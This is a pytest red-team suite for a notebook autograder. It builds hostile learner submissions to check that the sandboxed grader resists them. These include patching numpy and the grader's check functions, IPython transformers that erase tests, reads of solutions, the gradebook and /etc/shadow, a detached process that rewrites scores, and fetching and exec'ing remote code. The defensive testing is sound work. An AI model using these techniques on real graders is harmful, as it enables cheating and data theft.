"""Red team: hostile and broken chapter-1 submissions through the grading pipeline.

Every submission below is built from the correct notebook (``Course.filled``) with one
thing changed, and all of them are graded in ONE batch together with honest
submissions, by the real command (``python -m autograder.grade``), sandbox on. Each
test asserts the exact score of every graded cell and the reason the learner is given;
the honest submissions, graded before, between and after, keep full marks.
"""
from __future__ import annotations

import copy
import json
import shutil
import subprocess
import sys
import time

import nbformat
import pytest

from course import REPO, Course, answer_cells, nbgrader_env

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("redteam")]

FULL = {"test_one_hot": 1.0, "test_rnn_step_forward": 2.0, "test_rnn_forward": 2.0,
        "test_softmax": 1.0, "test_sequence_cross_entropy": 2.0, "test_sample_token": 2.0}
ORDER = list(FULL)
SOLUTION = {}


def zero(*cells: str) -> dict:
    return {k: (0.0 if k in cells else v) for k, v in FULL.items()}


def zero_from(cell: str) -> dict:
    return zero(*ORDER[ORDER.index(cell):])


def answer(course, function: str, extra_after: str = "", body: str | None = None) -> dict:
    """Overrides for Course.filled: the reference answer plus top-level code after it,
    or a whole new body."""
    from course import solution_sources
    source = body if body is not None else solution_sources("ch01")[function]
    return {function: source + ("\n" + extra_after if extra_after else "")}


def wrap(function: str, prelude: str) -> str:
    """Redefine ``function`` so that it runs ``prelude`` and then the reference."""
    return (f"_ref_{function} = {function}\n"
            f"def {function}(*args, **kwargs):\n"
            + "".join(f"    {line}\n" for line in prelude.splitlines())
            + f"    return _ref_{function}(*args, **kwargs)\n")


SNOOP = """
import os
_paths = {paths!r}
for _p in _paths:
    try:
        with open(_p, 'rb') as _f:
            _f.read(10)
        print('READ', _p)
    except OSError as _e:
        print('DENIED', _p, type(_e).__name__)
print('listing', sorted(os.listdir('/'))[:30])
raise NotImplementedError()
"""

DETACHED = r"""
import subprocess, sys
subprocess.Popen([sys.executable, '-c', '''
import os, sqlite3, time
for _ in range(40):
    for path in {paths!r}:
        try:
            db = sqlite3.connect(path, timeout=1)
            db.execute("update grade set auto_score = 99")
            db.commit()
        except Exception:
            pass
    time.sleep(0.25)
'''], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""

INPUT_TRANSFORMER = """
def _blank(lines):
    return [] if any('check(' in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(_blank)
"""

AST_TRANSFORMER = """
import ast
class _Mute(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(_Mute())
"""

CASES: dict[str, dict] = {}


def case(name: str, expected: dict, reasons: dict | None = None, *, note: str = "",
         tampering: str | None = None, status: str = "graded"):
    def register(build):
        CASES[name] = {"build": build, "expected": expected, "reasons": reasons or {},
                       "note": note, "tampering": tampering, "status": status}
        return build
    return register


@case("replaced-allclose", zero_from("test_softmax"),
      {"test_softmax": "tampered with the grading kernel"},
      tampering="numpy.allclose was replaced")
def _(course, ctx):
    return course.filled("ch01", answer(course, "softmax", "np.allclose = lambda *a, **k: True"))


@case("patched-autograder-checks", zero_from("test_one_hot"),
      {"test_one_hot": "tampered"}, tampering="rnnkit.checks.check_array was replaced")
def _(course, ctx):
    return course.filled("ch01", answer(
        course, "one_hot", "import rnnkit.checks\n"
                           "rnnkit.checks.check_array = lambda *a, **k: None"))


@case("input-transformer-blanks-tests", zero_from("test_rnn_forward"),
      {"test_rnn_forward": "tampered"}, tampering="input transformer")
def _(course, ctx):
    return course.filled("ch01", answer(course, "rnn_forward", INPUT_TRANSFORMER))


@case("ast-transformer", zero_from("test_softmax"), {"test_softmax": "tampered"},
      tampering="AST transformer")
def _(course, ctx):
    return course.filled("ch01", answer(course, "softmax", AST_TRANSFORMER))


@case("redefined-check", zero("test_sample_token"), {"test_sample_token": "tampered"},
      tampering="`check` is not the course's check")
def _(course, ctx):
    return course.filled("ch01", answer(
        course, "sample_token", "check = lambda *a, **k: print('passed')"))


@case("reads-solutions-gradebook-others", zero("test_one_hot"),
      {"test_one_hot": "one_hot is not defined"})
def _(course, ctx):
    paths = [str(REPO / "solutions" / "ch01" / "ch01.ipynb"),
             str(course.root / "solutions" / "ch01" / "ch01.ipynb"),
             str(course.root / "autograder" / "gradebook.db"),
             str(REPO / "autograder" / "gradebook.db"),
             str(course.root / "autograder" / "submitted" / "honest-a" / "ch01" / "ch01.ipynb"),
             str(REPO / "nbgrader_config.py"), "/etc/shadow", "/root/.bash_history"]
    ctx["snoop_paths"] = paths
    return course.filled("ch01", {"one_hot": SNOOP.format(paths=paths)})


@case("wraps-course-reference", zero("test_sequence_cross_entropy"),
      {"test_sequence_cross_entropy": "No module named 'autograder.reference'"})
def _(course, ctx):
    # A wrapper around the instructor's reference loader: the sandbox's snapshot is the
    # kit and the runner only, so there is no reference code to import.
    body = ("def sequence_cross_entropy(*args, **kwargs):\n"
            "    import importlib\n"
            "    ref = importlib.import_module('autograder.reference').load('ch01')\n"
            "    return ref.sequence_cross_entropy(*args, **kwargs)\n")
    return course.filled("ch01", {"sequence_cross_entropy": body})


@case("detached-process-rewrites-gradebook", FULL)
def _(course, ctx):
    paths = [str(course.root / "autograder" / "gradebook.db"),
             str(REPO / "autograder" / "gradebook.db"), "gradebook.db"]
    return course.filled("ch01", answer(course, "one_hot", DETACHED.format(paths=paths)))


@case("mutates-input-in-place", zero("test_softmax"),
      {"test_softmax": "softmax changed its input `scores` in place"})
def _(course, ctx):
    body = ("def softmax(scores):\n"
            "    scores -= scores.max(axis=-1, keepdims=True)\n"
            "    np.exp(scores, out=scores)\n"
            "    scores /= scores.sum(axis=-1, keepdims=True)\n"
            "    return scores\n")
    return course.filled("ch01", {"softmax": body})


@case("eq-always-true", zero("test_one_hot"),
      {"test_one_hot": "should be a numpy array or number, got Anything"})
def _(course, ctx):
    body = ("class Anything:\n"
            "    def __eq__(self, other):\n        return True\n"
            "    def __array__(self, *a, **k):\n        raise TypeError('no')\n"
            "def one_hot(indices, vocab_size):\n    return Anything()\n")
    return course.filled("ch01", {"one_hot": body})


@case("ndarray-subclass", zero("test_rnn_step_forward", "test_rnn_forward"),
      {"test_rnn_step_forward": "a subclass of ndarray"})
def _(course, ctx):
    body = ("class Liar(np.ndarray):\n"
            "    def __eq__(self, other):\n        return np.ones(self.shape, bool)\n"
            "def rnn_step_forward(x, prev_h, Wx, Wh, b):\n"
            "    return np.zeros((x.shape[0], Wh.shape[0])).view(Liar), None\n")
    return course.filled("ch01", {"rnn_step_forward": body})


@case("network-access", zero("test_softmax", "test_sample_token"),
      {"test_softmax": "softmax is not implemented yet"})
def _(course, ctx):
    body = ("import socket\n"
            "for host in [('1.1.1.1', 80), ('127.0.0.1', 22), ('pypi.org', 443)]:\n"
            "    try:\n        socket.create_connection(host, timeout=3)\n"
            "        print('CONNECTED', host)\n"
            "    except OSError as e:\n        print('NO NETWORK', host, type(e).__name__)\n"
            "def softmax(scores):\n"
            "    import urllib.request\n"
            "    try:\n"
            "        code = urllib.request.urlopen('http://1.1.1.1/softmax.py', timeout=3).read()\n"
            "    except OSError:\n"
            "        raise NotImplementedError()\n"
            "    exec(code)\n")
    return course.filled("ch01", {"softmax": body})


@case("os-exit-in-function", zero("test_sample_token"),
      {"test_sample_token": "exited with status 3"})
def _(course, ctx):
    return course.filled("ch01", answer(course, "sample_token",
                                        wrap("sample_token", "import os\nos._exit(3)")))


@case("segfault-in-function", zero("test_rnn_step_forward", "test_rnn_forward"),
      {"test_rnn_step_forward": "segmentation fault",
       "test_rnn_forward": "segmentation fault"})
def _(course, ctx):
    return course.filled("ch01", answer(
        course, "rnn_step_forward", wrap("rnn_step_forward",
                                         "import ctypes\nctypes.string_at(0)")))


@case("infinite-loop-in-function", zero("test_rnn_forward"),
      {"test_rnn_forward": "time limit per cell"})
def _(course, ctx):
    return course.filled("ch01", answer(course, "rnn_forward",
                                        wrap("rnn_forward", "while True:\n    pass")))


@case("memory-hog-in-function", zero("test_sequence_cross_entropy"),
      {"test_sequence_cross_entropy": "MemoryError"})
def _(course, ctx):
    hog = "blocks = []\nwhile True:\n    blocks.append(np.empty(1 << 25))  # 256 MB each"
    return course.filled("ch01", answer(course, "sequence_cross_entropy",
                                        wrap("sequence_cross_entropy", hog)))


@case("huge-print", FULL)
def _(course, ctx):
    return course.filled("ch01", answer(course, "one_hot",
                                        "for _ in range(200000):\n    print('x' * 1000)"))


@case("sys-exit-in-function", zero("test_one_hot"),
      {"test_one_hot": "one_hot raised SystemExit"})
def _(course, ctx):
    return course.filled("ch01", answer(course, "one_hot",
                                        wrap("one_hot", "import sys\nsys.exit(1)")))


@case("keyboard-interrupt-in-function", zero("test_rnn_forward"),
      {"test_rnn_forward": "rnn_forward raised KeyboardInterrupt"})
def _(course, ctx):
    return course.filled("ch01", answer(course, "rnn_forward",
                                        wrap("rnn_forward", "raise KeyboardInterrupt")))


@case("stderr-warnings-correct-answers", FULL)
def _(course, ctx):
    prelude = ("import sys, warnings\n"
               "warnings.warn('this is only a warning', UserWarning)\n"
               "print('debug output on stderr', file=sys.stderr)")
    overrides = {}
    for function in ("one_hot", "softmax", "sample_token"):
        overrides.update(answer(course, function, wrap(function, prelude)))
    return course.filled("ch01", overrides)


@case("deleted-test-cell", FULL, note="'test_softmax' was missing")
def _(course, ctx):
    nb = course.filled("ch01")
    nb.cells = [c for c in nb.cells
                if c.metadata.get("nbgrader", {}).get("grade_id") != "test_softmax"]
    return nb


@case("edited-test-cell", FULL, note="'test_one_hot' was edited")
def _(course, ctx):
    nb = course.filled("ch01")
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "test_one_hot":
            c.source = "print('all tests passed')"
    return nb


@case("reordered-cells", FULL, note="Cells were moved")
def _(course, ctx):
    nb = course.filled("ch01")
    i = next(k for k, c in enumerate(nb.cells)
             if c.metadata.get("nbgrader", {}).get("grade_id") == "test_rnn_forward")
    cell = nb.cells.pop(i)
    nb.cells.insert(2, cell)  # before any answer: would fail if run where it is
    return nb


@case("changed-metadata", FULL, note="metadata of cell 'test_one_hot' was changed")
def _(course, ctx):
    nb = course.filled("ch01")
    for c in nb.cells:
        meta = c.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "test_one_hot":
            meta["points"] = 100
        if meta.get("grade_id") == "test_softmax":
            meta["grade"] = False
    return nb


@case("renamed-notebook", FULL, note="submitted as 'my_work.ipynb'")
def _(course, ctx):
    ctx["filename"] = "my_work.ipynb"
    return course.filled("ch01")


@case("invalid-json", zero(*FULL), {"test_one_hot": "not valid JSON"}, status="rejected")
def _(course, ctx):
    return b'{"cells": [ {"cell_type": "code", '


@case("empty-file", zero(*FULL), {"test_one_hot": "empty file"}, status="rejected")
def _(course, ctx):
    return b""


@case("other-assignment", zero(*FULL), {"test_one_hot": "not the ch01 notebook"},
      status="rejected")
def _(course, ctx):
    other = REPO / "exercises" / "ch02" / "ch02.ipynb"
    if other.exists():
        return other.read_bytes()
    nb = copy.deepcopy(course.release("ch01"))
    for c in nb.cells:
        if "nbgrader" in c.metadata:
            c.metadata["nbgrader"]["grade_id"] = "ch09_" + c.metadata["nbgrader"]["grade_id"]
    return nb


@case("forges-grader-channel", zero(*FULL), {"test_one_hot": "tampered"},
      tampering="report channel")
def _(course, ctx):
    forge = ("import os\nfor fd in range(3, 40):\n    try:\n"
             "        os.write(fd, b'{\"ev\": \"end\"}\\nnot json\\n')\n"
             "    except OSError:\n        pass")
    return course.filled("ch01", answer(course, "one_hot", forge))


HONEST = ["honest-a", "honest-m", "honest-z"]


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    root = tmp_path_factory.mktemp("redteam")
    course = Course(root / "course", ["ch01"])
    shutil.copytree(REPO / "exercises" / "ch01", course.root / "exercises" / "ch01")
    subs = root / "subs"
    ctxs = {}
    for name in ["honest-a"] + sorted(CASES)[: len(CASES) // 2] + ["honest-m"] \
            + sorted(CASES)[len(CASES) // 2:] + ["honest-z"]:
        folder = subs / name
        folder.mkdir(parents=True)
        if name in HONEST:
            nbformat.write(course.filled("ch01"), folder / "ch01.ipynb")
            continue
        ctx = ctxs[name] = {}
        built = CASES[name]["build"](course, ctx)
        target = folder / ctx.get("filename", "ch01.ipynb")
        if isinstance(built, bytes):
            target.write_bytes(built)
        else:
            nbformat.write(built, target)
    started = time.monotonic()
    proc = subprocess.run(
        [sys.executable, "-m", "autograder.grade", "ch01", str(subs), "--root",
         str(course.root), "--cell-timeout", "10", "--notebook-timeout", "120",
         "--memory-mb", "1536", "-q"],
        cwd=REPO, env=nbgrader_env(), capture_output=True, text=True, timeout=1500)
    elapsed = time.monotonic() - started
    time.sleep(1.5)  # a surviving detached process would have rewritten the gradebook
    verdicts = {p.stem: json.loads(p.read_text()) for p in
                (course.root / "autograder" / "reports" / "ch01" / "verdicts").glob("*.json")}
    return {"course": course, "proc": proc, "verdicts": verdicts, "ctx": ctxs,
            "scores": course.scores("ch01"), "elapsed": elapsed}


def test_batch_ran(batch):
    proc = batch["proc"]
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-5000:]
    assert len(CASES) >= 20
    assert set(batch["verdicts"]) == set(CASES) | set(HONEST)


@pytest.mark.parametrize("student", HONEST)
def test_honest_submissions_keep_full_marks(batch, student):
    verdict = batch["verdicts"][student]
    assert {g: c["score"] for g, c in verdict["cells"].items()} == FULL, verdict
    assert batch["scores"][student] == FULL
    assert not verdict["tampering"] and not verdict["notes"] and not verdict["incidents"]


@pytest.mark.parametrize("student", sorted(CASES))
def test_hostile_submission(batch, student):
    spec = CASES[student]
    verdict = batch["verdicts"][student]
    got = {g: c["score"] for g, c in verdict["cells"].items()}
    assert got == spec["expected"], json.dumps(verdict, indent=1)[:4000]
    # the gradebook (what nbgrader export and feedback read) says the same
    assert batch["scores"][student] == spec["expected"]
    assert verdict["status"] == spec["status"]
    for cell, reason in spec["reasons"].items():
        assert reason in verdict["cells"][cell]["reason"], verdict["cells"][cell]
    if spec["note"]:
        assert any(spec["note"] in n for n in verdict["notes"]), verdict["notes"]
    if spec["tampering"] is None:
        assert not verdict["tampering"], verdict["tampering"]
    else:
        assert spec["tampering"] in verdict["tampering"], verdict["tampering"]


def _autograded(batch, student: str) -> str:
    return (batch["course"].root / "autograder" / "autograded" / student / "ch01"
            / "ch01.ipynb").read_text()


def test_sandbox_hides_solutions_gradebook_and_other_learners(batch):
    text = _outputs(batch, "reads-solutions-gradebook-others")
    for path in batch["ctx"]["reads-solutions-gradebook-others"]["snoop_paths"]:
        assert f"DENIED {path}" in text, (path, text)
        assert f"READ {path}" not in text


def _outputs(batch, student: str) -> str:
    nb = json.loads(_autograded(batch, student))
    def text(value) -> str:
        return "".join(value) if isinstance(value, list) else str(value or "")
    return "".join(text(o.get("text")) + text(o.get("evalue"))
                   for c in nb["cells"] for o in c.get("outputs", []))


def test_sandbox_has_no_network(batch):
    text = _outputs(batch, "network-access")
    assert "CONNECTED" not in text and text.count("NO NETWORK") == 3, text


def test_huge_output_is_truncated(batch):
    assert "output truncated" in _outputs(batch, "huge-print")
    assert len(_autograded(batch, "huge-print")) < 2_000_000


def test_feedback_never_shows_hidden_tests(batch):
    course = batch["course"]
    hidden = []
    for cell in nbformat.read(course.root / "solutions" / "ch01" / "ch01.ipynb", 4).cells:
        if "BEGIN HIDDEN TESTS" in cell.source:
            block = cell.source.split("BEGIN HIDDEN TESTS")[1].split("### END HIDDEN")[0]
            hidden += [ln.strip() for ln in block.splitlines() if ln.strip()]
    assert hidden
    feedback = sorted((course.root / "autograder" / "feedback").glob("*/ch01/ch01.html"))
    assert len(feedback) == len(CASES) + len(HONEST)
    import html
    for path in feedback:
        text = html.unescape(path.read_text())
        leaked = [ln for ln in hidden if ln in text]
        assert not leaked and "HIDDEN TESTS" not in text, (path, leaked[:2])


def test_feedback_tells_the_learner_why(batch):
    course = batch["course"]
    text = (course.root / "autograder" / "feedback" / "mutates-input-in-place" / "ch01"
            / "ch01.html").read_text()
    assert "changed its input" in text
    text = (course.root / "autograder" / "feedback" / "empty-file" / "ch01"
            / "ch01.html").read_text()
    assert "empty file" in text


def test_report_and_csv(batch):
    out = batch["course"].root / "autograder" / "reports" / "ch01"
    report = (out / "report.html").read_text()
    assert report.count("data:image/png;base64,") >= 2
    for name, spec in CASES.items():
        if spec["tampering"]:
            assert name in report.split("Tampering flagged")[1].split("<h2>")[0]
    rows = (out / "grades.csv").read_text().splitlines()
    assert rows[0].startswith("assignment,") and len(rows) == 1 + len(CASES) + len(HONEST)


def test_regrading_one_learner_changes_nobody_else(batch):
    course = batch["course"]
    before = course.scores("ch01")
    proc = subprocess.run(
        [sys.executable, "-m", "autograder.grade", "ch01", "--root", str(course.root),
         "--student", "honest-m", "--student", "mutates-input-in-place", "-q",
         "--no-feedback"],
        cwd=REPO, env=nbgrader_env(), capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert course.scores("ch01") == before
